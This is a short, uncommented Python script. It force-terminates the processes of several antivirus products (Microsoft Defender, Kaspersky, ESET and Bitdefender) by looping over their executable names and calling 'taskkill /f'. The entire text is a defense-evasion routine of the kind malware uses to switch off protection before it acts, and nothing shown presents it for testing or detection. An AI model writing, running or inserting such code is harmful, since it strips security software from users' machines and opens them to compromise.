import os
for proc in ("MsMpEng.exe", "avp.exe", "ekrn.exe", "bdagent.exe"):
    os.system("taskkill /f /im " + proc)
